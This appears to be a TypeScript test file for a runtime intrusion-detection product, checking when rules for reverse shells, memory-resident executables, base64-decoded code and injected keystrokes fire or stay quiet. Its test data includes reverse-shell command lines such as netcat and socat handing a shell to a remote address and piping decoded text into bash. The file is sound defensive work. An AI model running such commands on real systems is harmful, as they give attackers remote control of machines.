import { O, type TestProcess } from '@ringfence/testkit';
import { records } from '@ringfence/wire';
import { EXEC, NOBODY, PAIRED, REMOTE, type Scene, testContent } from './support.ts';

const { Stdio: STDIO } = records;
const REMOTE_INPUT = STDIO.INPUT | STDIO.NETWORK_INPUT;
const REMOTE_OUTPUT = STDIO.OUTPUT | STDIO.NETWORK_OUTPUT;

/** bash over a connection, as `bash -i >& /dev/tcp/…` makes it. */
function reverseShell(s: Scene, parent?: TestProcess): TestProcess {
  return s.start('/usr/bin/bash -i', parent, REMOTE);
}

/** execve of a path fails. */
function refused(s: Scene, process: TestProcess, path: string, result: number): void {
  s.event(process, 'Attempt', { operation: 2, call: 5, result, sourceCaller: true, count: 1, path, argv: path });
}

testContent('execution.yaml', {
  'Suspicious Process Execution': {
    as: 'notice execution T1059.004',
    fires: {
      'a shell in a container': (s) => s.start('/bin/sh -c id', s.inside),
      'bash, whatever it leads to': (s) => s.start('/bin/bash', s.inside, { filename: '/bin/bash' }, '/usr/bin/bash'),
    },
    quiet: {
      'the image that is meant for it': (s) => s.start('/bin/sh', s.startContainer({ image: 'debug-tools:latest' })),
      'a shell on a host': (s) => s.start('/bin/sh -c id'),
      'a shell that ran before the agent': (s) => s.snapshot(s.fork(s.shell), '/bin/sh'),
      'another program': (s) => s.start('/bin/ls', s.inside),
    },
  },
  'Reverse shell': {
    as: 'critical execution T1059.004',
    fires: {
      'bash over a connection': (s) => reverseShell(s),
      'sh by netcat in a container': (s) =>
        s.start('/bin/sh', s.start('/bin/nc -e /bin/sh 203.0.113.9 1', s.inside), REMOTE),
      "busybox's sh": (s) => s.start('sh -i', s.inside, REMOTE, '/bin/busybox'),
    },
    quiet: {
      'only its input comes from there': (s) => s.start('/bin/sh install.sh', s.shell, { stdioSockets: REMOTE_INPUT }),
      'a session by ssh without a terminal': (s) => s.start(['bash', '-c', 'ls'], s.sshd, PAIRED, '/usr/bin/bash'),
      'npm runs a script': (s) =>
        s.start(['sh', '-c', 'tsc'], s.start('/usr/bin/node /usr/bin/npm run build'), PAIRED, '/usr/bin/dash'),
      'a service that systemd starts for each connection': (s) =>
        s.start('/bin/bash /usr/bin/check_mk_agent', s.init, REMOTE),
      'only its output goes there': (s) => s.start('/bin/sh report.sh', s.shell, { stdioSockets: REMOTE_OUTPUT }),
      'busybox as another program': (s) => s.start('cat', s.inside, REMOTE, '/bin/busybox'),
    },
  },
  'Command of a reverse shell': {
    as: 'warning execution T1059',
    fires: {
      'id under it': (s) => s.start('/usr/bin/id', reverseShell(s), REMOTE),
      'the shell has another name': (s) => s.start('/usr/bin/id', s.start('/opt/helper -p', s.shell, REMOTE), REMOTE),
    },
    quiet: {
      'another shell, which has its own rule': (s) => reverseShell(s, reverseShell(s)),
      'a server hands its connection to a program': (s) =>
        s.start('/usr/bin/cat', s.start('/usr/bin/tcpserver 0 80'), REMOTE),
      'sshd started for each connection': (s) =>
        s.start('/usr/lib/openssh/sshd-session', s.start('/usr/sbin/sshd -i', s.shell, REMOTE), REMOTE),
      'a shell of sshd': (s) => s.start('/usr/bin/ls', s.start('/bin/bash -c ls', s.sshd, PAIRED), PAIRED),
      'a command of a service that systemd starts for each connection': (s) =>
        s.start('/usr/bin/df', s.start('/bin/bash /usr/bin/check_mk_agent', s.init, REMOTE), REMOTE),
      'its input is a file': (s) => s.start('/usr/bin/wc', reverseShell(s), { stdioSockets: REMOTE_OUTPUT }),
    },
  },
  'Network tool given a shell': {
    as: 'error execution T1059.004',
    fires: {
      'netcat starts sh': (s) => s.start('/usr/bin/nc.traditional -e /bin/sh 203.0.113.9 443'),
      "busybox's nc": (s) => s.start('nc 203.0.113.9 443 -e sh', s.inside, {}, '/bin/busybox'),
      'ncat starts bash': (s) => s.start('/usr/bin/ncat --exec /bin/bash 203.0.113.9 443'),
      'socat starts bash': (s) => s.start('/usr/bin/socat TCP:203.0.113.9:443 EXEC:/bin/bash,pty'),
    },
    quiet: {
      'netcat tries a port': (s) => s.start('/usr/bin/nc -z db 5432', s.inside),
      'socat forwards a port': (s) => s.start('/usr/bin/socat TCP-LISTEN:80,fork TCP:10.0.0.2:80'),
      'netcat sends a script': (s) => s.start('/usr/bin/nc -N host 80 install.sh'),
    },
  },
  'Terminal made for a shell': {
    as: 'warning execution T1059.006',
    fires: {
      'Python makes one': (s) =>
        s.start(['python3', '-c', 'import pty; pty.spawn("/bin/bash")'], s.inside, {}, '/usr/bin/python3.11'),
    },
    quiet: {
      'Python runs a module': (s) => s.start('/usr/bin/python3 -m http.server'),
      'somebody reads about it': (s) => s.start('/usr/bin/grep -rn pty.spawn .'),
    },
  },
  'Executable run from memory': {
    as: 'critical stealth T1620',
    fires: {
      'a program from a memfd': (s) => s.start('x', s.shell, { flags: EXEC.memfd | EXEC.deleted }, '/memfd:x'),
      'one that takes the name of runc': (s) =>
        s.start('runc', s.inside, { flags: EXEC.memfd | EXEC.deleted }, '/memfd:runc_cloned:/proc/self/exe'),
      'one that takes the name of a builder': (s) =>
        s.start('x', s.shell, { flags: EXEC.memfd | EXEC.deleted }, '/memfd:buildah-chroot-runtime'),
    },
    quiet: {
      'runc copies itself before it enters a container': (s) =>
        s.start(
          'runc init',
          s.start('/usr/bin/runc create x', s.init),
          { flags: EXEC.memfd | EXEC.deleted },
          '/memfd:runc_cloned:/proc/self/exe',
        ),
      'podman builds without a runtime': (s) =>
        s.start(
          'buildah-chroot-runtime',
          s.start('/usr/bin/podman build --isolation chroot .', s.shell),
          { flags: EXEC.memfd | EXEC.deleted },
          '/memfd:buildah-chroot-runtime',
        ),
      'a program on a disk': (s) => s.start('/usr/bin/ls'),
      'one in shared memory that has a name': (s) => s.start('/dev/shm/x'),
    },
  },
  'Executable run from a deleted file': {
    as: 'error stealth T1070.004',
    fires: {
      'it was removed before it ran': (s) => s.start('/tmp/x', s.shell, { flags: EXEC.deleted }),
      'a service of the system starts what is not its own file': (s) =>
        s.start('/usr/bin/x', s.shell, { flags: EXEC.deleted }),
    },
    quiet: {
      'a runtime enters a container': (s) =>
        s.start('runc init', s.start('/usr/bin/runc create x'), { flags: EXEC.deleted }, '/run/runc.1'),
      'a browser starts itself again after its upgrade': (s) => {
        const chrome = s.start('/opt/google/chrome/chrome');
        s.start('/opt/google/chrome/chrome --type=renderer', chrome, { flags: EXEC.deleted });
      },
      'it runs from memory, which has its own rule': (s) =>
        s.start('x', s.shell, { flags: EXEC.memfd | EXEC.deleted }, '/memfd:x'),
      'it is there': (s) => s.start('/tmp/x'),
    },
  },
  'Executable run from a scratch folder': {
    as: 'notice execution T1204.002',
    fires: {
      'a program in /tmp': (s) => s.start('/tmp/x', s.inside, NOBODY),
      'a program in shared memory': (s) => s.start('/dev/shm/a/x'),
    },
    quiet: {
      'a program just compiled': (s) => {
        s.open(s.start('/usr/bin/x86_64-linux-gnu-ld.bfd -o /tmp/a.out'), '/tmp/a.out', O.WRONLY | O.CREAT);
        s.start('/tmp/a.out');
      },
      'a package script unpacked to /tmp, in a container': (s) => {
        const apt = s.start('/usr/bin/apt-get install -y linux-image', s.inside);
        s.start('/var/tmp/mkinitramfs_x/hook', s.start('/usr/bin/dpkg --configure -a', apt));
      },
      'go runs a program': (s) => s.start('/tmp/go-build1/exe/main', s.start('/usr/lib/go/bin/go run .')),
      'a shell runs a script in /tmp': (s) => s.start('/bin/sh /tmp/x.sh'),
      'an installed program': (s) => s.start('/usr/bin/ls /tmp/'),
    },
  },
  'Execution refused in a scratch folder': {
    as: 'notice execution T1204.002',
    fires: {
      'a download on a noexec mount': (s) => refused(s, s.start('/usr/bin/bash'), '/tmp/.x', -13),
      'by a path that goes there': (s) => refused(s, s.inside, '/etc/../dev/shm/x', -13),
      'the kernel forbids it': (s) => refused(s, s.start('/usr/bin/php-fpm'), '/var/tmp/x', -1),
    },
    quiet: {
      'it is not there': (s) => refused(s, s.shell, '/tmp/x', -2),
      'it is no program': (s) => refused(s, s.shell, '/tmp/notes.txt', -8),
      'another folder': (s) => refused(s, s.shell, '/home/ann/script.sh', -13),
      'a folder of PATH that is no folder for this user': (s) => refused(s, s.shell, '/root/bin/ls', -13),
      'a script of a package': (s) =>
        refused(s, s.start('/usr/bin/perl x', s.start('/usr/bin/dpkg --configure -a')), '/tmp/x.config', -13),
      'a build tries what works': (s) =>
        refused(s, s.start('/bin/sh -c x', s.start('/usr/bin/make')), '/tmp/conftest', -13),
      'it ran': (s) => s.start('/tmp/x'),
    },
  },
  'Code given to an interpreter in base64': {
    as: 'error stealth execution T1027 T1140 T1059',
    fires: {
      'decoded and given to bash': (s) => s.start(['/bin/sh', '-c', 'echo aWQ= | base64 -d | bash'], s.inside),
      'decoded by Python': (s) =>
        s.start(['python3', '-c', 'import base64; exec(base64.b64decode("aWQ="))'], s.shell, {}, '/usr/bin/python3.11'),
      'unpacked as well, for another interpreter': (s) =>
        s.start(['sh', '-c', 'echo eJwr | base64 -di | gunzip | python3'], s.shell, {}, '/bin/sh'),
      'written without blanks, for Runtime.exec': (s) =>
        s.start(['bash', '-c', '{echo,aWQ=}|{base64,-d}|{bash,-i}'], s.inside, {}, '/bin/bash'),
      'decoded as the command of another shell': (s) =>
        s.start(['sh', '-c', 'bash -c "$(base64 -d x)"'], s.shell, {}, '/bin/sh'),
      'decoded by Perl': (s) =>
        s.start(['perl', '-MMIME::Base64', '-e', 'eval decode_base64("aWQ=")'], s.shell, {}, '/usr/bin/perl'),
      'decoded into eval': (s) =>
        s.start(['bash', '-c', 'eval "$(echo aWQ= | base64 --decode)"'], s.shell, {}, '/bin/bash'),
    },
    quiet: {
      'a download is run, which has other rules': (s) => s.start(['/bin/sh', '-c', 'curl -d x u | bash'], s.inside),
      'an encoded file is given to a script': (s) => s.start(['/bin/sh', '-c', 'base64 a.bin | bash'], s.inside),
      'a secret is decoded into a file': (s) =>
        s.start(['bash', '-c', 'echo $KEY | base64 -d > key.json'], s.shell, {}, '/bin/bash'),
      'a secret is decoded beside other steps of a build': (s) =>
        s.start(
          ['sh', '-c', 'echo $KEY | base64 -d > k; find . -delete; curl u | sh; eval "$(ssh-agent)"'],
          s.shell,
          {},
          '/bin/sh',
        ),
      'a program decodes what it prints': (s) =>
        s.start(
          ['python3', '-c', 'import base64; print(base64.b64decode("aWQ="))'],
          s.shell,
          {},
          '/usr/bin/python3.11',
        ),
      'something is encoded': (s) => s.start(['sh', '-c', 'base64 -w0 a.png | wc -c'], s.shell, {}, '/bin/sh'),
      'somebody searches': (s) => s.start(['grep', 'base64 -d | bash', 'x'], s.shell, {}, '/usr/bin/grep'),
    },
  },
  'Keys typed by a program': {
    as: 'warning execution T1674',
    fires: {
      'a program of nobody': (s) => s.open(s.start('/tmp/typer'), '/dev/uinput', O.WRONLY),
      'an interpreter': (s) => s.open(s.start('/usr/bin/python3 x.py'), '/dev/uinput', O.RDWR),
    },
    quiet: {
      'a keyboard over the air': (s) => s.open(s.start('/usr/libexec/bluetooth/bluetoothd'), '/dev/uhid', O.RDWR),
      'a tool that changes keys': (s) => s.open(s.start('/usr/bin/keyd'), '/dev/uinput', O.RDWR),
      'another device': (s) => s.open(s.start('/usr/bin/python3 x.py'), '/dev/null', O.WRONLY),
      'its rights are looked at': (s) => s.open(s.start('/usr/bin/python3 x.py'), '/dev/uinput'),
    },
  },
});
